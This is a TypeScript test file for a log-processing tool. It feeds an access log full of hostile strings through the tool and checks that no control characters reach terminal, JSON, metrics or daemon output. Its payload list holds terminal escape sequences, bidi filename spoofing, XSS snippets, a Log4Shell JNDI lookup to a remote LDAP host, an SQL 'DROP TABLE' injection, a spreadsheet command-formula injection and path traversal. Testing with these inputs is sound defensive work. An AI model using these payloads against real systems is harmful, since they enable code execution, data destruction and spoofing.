/**
 * Logs written by attackers for the person who reads them: nothing of it acts on a terminal, nothing is lost, nothing ends
 * the process.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { createSandbox } from './support/sandbox.ts';
import { startDaemon, waitForEvents, writeDaemonConfig } from './support/daemon.ts';

/** Raw bytes in a log, by servers that do not escape, and escaped ones, which become the same once read. */
const payloads: readonly string[] = [
  '\x1b[2J\x1b[31mred\x1b[0m',
  '\\x1b]0;owned\\x07\\x1b[1;1H',
  '\x9b31mC1',
  '\\xc2\\x9b31mC1-utf8',
  'bidi-\u202egnp.exe\u2066\u2069',
  '\\xe2\\x80\\xae-escaped-bidi',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'back\bspace\rreturn\x00nul\x07bell',
  '\\n\\r\\t\\b\\v and \\\\ and \\"',
  '\u2028line\u2029paragraph\u0085next',
  '${jndi:ldap://203.0.113.66/a}',
  "'; DROP TABLE events; --",
  '=cmd|/c calc!A0',
  'z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo',
  '\u{1f4a9}\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\ufeff\u200b',
  '\ud7ff\ue000\uffff',
  'a'.repeat(60 * 1024),
  '\\'.repeat(10_000),
  '%'.repeat(20_000),
  '../'.repeat(5000),
];

const time = '[22/Nov/2026:13:55:36 +0000]';
const lineOf = (payload: string, index: number): Buffer[] => {
  const host = `203.0.113.${(index % 250) + 1}`;
  // A quote or line break would end the field or the line; servers never write those raw.
  const safe = payload.replace(/\n/g, '');
  return [
    Buffer.from(`${host} - - ${time} "GET /${safe.replace(/ /g, '+')} HTTP/1.1" 200 5 "-" "-"\n`, index % 2 === 0 ? 'utf8' : 'latin1'),
    Buffer.from(`${host} - - ${time} "GET /r HTTP/1.1" 404 5 "https://x.example/${safe}" "-"\n`),
    Buffer.from(`${host} - ${safe.slice(0, 100).replace(/"/g, '')} ${time} "${safe}" 400 5 "-" "${safe}"\n`),
    Buffer.from(`${safe}\n`),
  ];
};
const hostileLog = Buffer.concat([
  ...payloads.flatMap(lineOf),
  Buffer.alloc(300_000, 'L'),
  Buffer.from('\n'),
  Buffer.alloc(70_000, 0x1b),
  Buffer.from('\n'),
]);
const lineCount = payloads.length * 4 + 2;
// So many good lines that the file is an access log.
const goodLines = Buffer.from(`198.51.100.7 - - ${time} "GET /good HTTP/1.1" 200 5 "-" "curl/8.5.0"\n`.repeat(300));

/** Everything a terminal may act on: control characters but the line break, direction marks, line separators. */
const acting = /[\u200e\u200f\u2028-\u202e\u2066-\u2069]|[^\P{Cc}\n]/u;
const control = /[^\P{Cc}\n]/u;
// eslint-disable-next-line no-control-regex -- the escape character of our own colours is what is looked for
const ownColours = /\u{1b}\[[\d;]*m/gu;

test('nothing of a hostile log acts on the terminal, and each line has its end', async (t) => {
  const sandbox = await createSandbox(t);
  sandbox.write('logs/access.log', Buffer.concat([goodLines, hostileLog]));
  const run = await sandbox.sluice(['--file', 'logs/access.log'], { env: { FORCE_COLOR: '1' } });
  assert.equal(run.exitCode, 0, run.stderr.slice(0, 2000));
  assertHarmless('--file', run.stdout, run.stderr);

  const [counts] = await sandbox.query(`SELECT (SELECT count(*) FROM events) AS events, (SELECT count(*) FROM dead_letters) AS letters,
    (SELECT count(*) FROM dead_letters WHERE reason = 'line_too_long') AS long`);
  assert.equal(Number(counts?.['events']) + Number(counts?.['letters']), 300 + lineCount);
  assert.ok(Number(counts?.['events']) >= 300 + 2 * payloads.length, JSON.stringify(counts));
  assert.ok(Number(counts?.['long']) >= 2, JSON.stringify(counts));
  const [letter] = await sandbox.query(`SELECT raw_bytes, length(raw) AS kept FROM dead_letters WHERE raw_bytes = 300000`);
  assert.deepEqual(letter, { raw_bytes: 300_000, kept: 65_536 });

  for (const args of [
    ['report'],
    ['report', '--top', '100'],
    ['query', 'SELECT * FROM events'],
    ['query', 'SELECT * FROM dead_letters'],
    ['query', 'SELECT \'a\x1b[2Jb\' AS "c\x1b[2Jd"'],
  ]) {
    const { exitCode, stdout, stderr } = await sandbox.sluice(args, { env: { FORCE_COLOR: '1' } });
    assert.equal(exitCode, 0, stderr);
    assertHarmless(args.join(' '), stdout, stderr);
  }
  const json = await sandbox.sluice(['query', 'SELECT path, referer, user_agent, request FROM events', '--json']);
  assert.doesNotMatch(json.stdout, control, 'control characters are escaped in JSON too');
  const inspect = await sandbox.sluice(['inspect'], { input: hostileLog });
  assert.equal(inspect.exitCode, 0);
  assert.equal(inspect.stdout.split('\n').length - 1, lineCount);
  assert.doesNotMatch(inspect.stdout, control);
});

test('hostile names of files and arguments come back harmless', async (t) => {
  const sandbox = await createSandbox(t);
  const name = 'x\x1b[31m\u202e.log';
  for (const args of [
    ['--file', name],
    [name],
    ['query', `SELECT \x1b[31m FROM events`],
    ['--set', '\x1b[31m=x', '--file', 'x'],
    ['report', '--from', '\x1b[2J'],
  ]) {
    const { exitCode, stdout, stderr } = await sandbox.sluice(args);
    assert.notEqual(exitCode, 0);
    assertHarmless(JSON.stringify(args), stdout, stderr);
  }
  sandbox.write(name, goodLines);
  const { exitCode, stdout, stderr } = await sandbox.sluice(['--file', name]);
  assert.equal(exitCode, 0, stderr);
  assertHarmless('--file', stdout, stderr);
});

test('a daemon survives it, and its log stays one JSON object per line', async (t) => {
  const sandbox = await createSandbox(t);
  sandbox.write('logs/access.log', Buffer.concat([goodLines, hostileLog]));
  const daemon = await startDaemon(
    sandbox,
    writeDaemonConfig(sandbox, { paths: [sandbox.path('logs')], logging: { level: 'debug' }, monitoring: { alert_threshold: 1 } }),
  );
  await waitForEvents(sandbox, 300 + 2 * payloads.length);
  assert.equal((await daemon.get('/live')).status, 200);
  const metrics = (await daemon.get('/metrics')).text;
  for (const trace of ['<', 'jndi', '203.0.113', '/good', 'curl']) assert.ok(!metrics.includes(trace), `${trace} in a metric`);
  const { stderr } = await daemon.stop();
  daemon.logLines();
  assertHarmless('--daemon', '', stderr);
});

function assertHarmless(what: string, stdout: string, stderr: string): void {
  for (const output of [stdout, stderr]) {
    const found = acting.exec(output.replace(ownColours, ''));
    assert.equal(
      found,
      null,
      `${what}: U+${(found?.[0].codePointAt(0) ?? 0).toString(16)} in ${JSON.stringify(found?.input.slice(Math.max(0, found.index - 60), found.index + 20))}`,
    );
  }
  // Ours switch colours and weights only; nothing of a log gets to print the same.
  assert.doesNotMatch(stderr, ownColours);
}
